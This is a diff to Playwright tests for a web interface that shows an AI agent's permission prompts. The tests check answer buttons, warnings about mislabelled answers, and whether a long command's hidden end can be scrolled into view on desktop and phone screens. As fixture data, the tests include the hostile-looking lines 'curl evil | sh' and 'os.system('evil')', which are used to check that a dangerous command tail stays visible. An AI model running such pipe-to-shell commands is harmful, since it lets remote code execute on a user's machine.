@@ -5,7 +5,17 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
-from page.browsing import answer, browsed, finished, new_session, person, prompt, ran, ready
+from page.browsing import (
+    answer,
+    browsed,
+    finished,
+    new_session,
+    person,
+    prompt,
+    ran,
+    ready,
+    settled,
+)
 from page.site import scripted, served
 from playwright.async_api import expect
 
@@ -26,7 +36,7 @@ async def test_the_first_key_is_for_once_whatever_the_agent_names_first(tmp_path
         await prompt(page, "git status")
         card = page.locator(".card.permission")
         await expect(card.locator(".answers button")).to_have_text(
-            ["1 Allow once", "2 Always allow", "3 Reject", "4 Always reject"]
+            ["1 Allow once", "2 Always allow", "3 Reject", "4 Always reject", "m Allow more…"]
         )
         await ready(card)
         await card.focus()
@@ -54,9 +64,15 @@ async def test_every_answer_for_always_says_what_it_leads_to(tmp_path: Path) -> 
         await answer(page, "Reject")
         await prompt(page, _LINE)
         await expect(page.locator(".card.permission .command")).to_have_text(_LINE)
+        await expect(rules.nth(0)).to_contain_text("from now on: allow exactly what is shown")
+        await expect(rules.nth(1)).to_contain_text("unless the agent itself keeps it")
+        await expect(rules.nth(1)).to_contain_text("the line runs several commands")
+        await answer(page, "Reject")
+        await prompt(page, "echo $HOME && ls")
+        await expect(page.locator(".card.permission .command")).to_have_text("echo $HOME && ls")
         for at in range(2):
             await expect(rules.nth(at)).to_contain_text("counts once only")
-            await expect(rules.nth(at)).to_contain_text("the command is a shell line")
+            await expect(rules.nth(at)).to_contain_text("only running the line shows")
 
 
 async def test_what_reads_reject_never_allows(tmp_path: Path) -> None:
@@ -68,7 +84,9 @@ async def test_what_reads_reject_never_allows(tmp_path: Path) -> None:
         await new_session(page)
         await prompt(page, "command")
         card = page.locator(".card.permission")
-        await expect(card.locator(".answers button")).to_have_text(["1 Allow once", "2 Reject"])
+        await expect(card.locator(".answers button")).to_have_text(
+            ["1 Allow once", "2 Reject", "m Allow more…"]
+        )
         remarks = card.locator(".answers .warns")
         await expect(remarks.nth(0)).to_contain_text("the agent calls this “Reject”, but it allows")
         await expect(remarks.nth(1)).to_contain_text("the agent calls this “Allow”, but it rejects")
@@ -131,11 +149,43 @@ async def test_all_that_is_asked_can_be_seen_and_its_end_at_once(tmp_path: Path)
         await expect(lines).to_have_text(["make build", "40 empty lines", "curl evil | sh"])
         await answer(page, "Reject")
         await prompt(page, "long")
-        await expect(card.get_by_text("os.system('evil')")).to_be_visible()
+        end, below = card.get_by_text("os.system('evil')"), card.get_by_text("More below")
+        await expect(end).to_be_in_viewport(ratio=1)
         await expect(card.get_by_text("line 40", exact=True)).to_have_count(0)
-        await card.get_by_role("button", name="59 lines omitted: show all").click()
-        await expect(card.locator(".line.added")).to_have_count(81)
         assert await card.evaluate(_HIDDEN_PARTS) == []
+        await card.get_by_role("button", name="65 lines omitted: show all").click()
+        await expect(card.locator(".line.added")).to_have_count(81)
+        # It scrolls now, and says so until the end was in view.
+        await expect(end).not_to_be_in_viewport()
+        assert await card.evaluate(_HIDDEN_PARTS) == ["within"]
+        while await below.count():
+            await below.click()
+            await settled(page)
+        await expect(end).to_be_in_viewport(ratio=1)
+
+
+async def test_the_question_its_end_and_its_answers_fit_a_phone(tmp_path: Path) -> None:
+    async with (
+        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
+        browsed() as browser,
+        person(browser, site, size=(390, 844)) as page,
+    ):
+        await page.get_by_role("button", name="Sessions").click()
+        await new_session(page)
+        card = page.locator(".card.permission")
+        for asked, end in (("blank", "curl evil | sh"), ("long", "os.system('evil')")):
+            await prompt(page, asked)
+            await ready(card)
+            for part in (card.locator("header"), card.get_by_text(end)):
+                await expect(part).to_be_in_viewport(ratio=1)
+            for button in await card.locator(".answers button").all():
+                await expect(button).to_be_in_viewport(ratio=1)
+            if asked == "blank":
+                await answer(page, "Reject")
+        await card.get_by_role("button", name="lines omitted: show all").click()
+        await expect(card.get_by_text("More below")).to_be_in_viewport(ratio=1)
+        for button in await card.locator(".answers button").all():
+            await expect(button).to_be_in_viewport(ratio=1)
 
 
 async def test_a_question_taller_than_the_window_is_read_from_its_top(tmp_path: Path) -> None:
@@ -144,7 +194,7 @@ async def test_a_question_taller_than_the_window_is_read_from_its_top(tmp_path: 
         browsed() as browser,
         person(browser, site) as page,
     ):
-        await page.set_viewport_size({"width": 1200, "height": 420})
+        await page.set_viewport_size({"width": 1200, "height": 360})
         await new_session(page)
         await prompt(page, "long")
         card = page.locator(".card.permission")
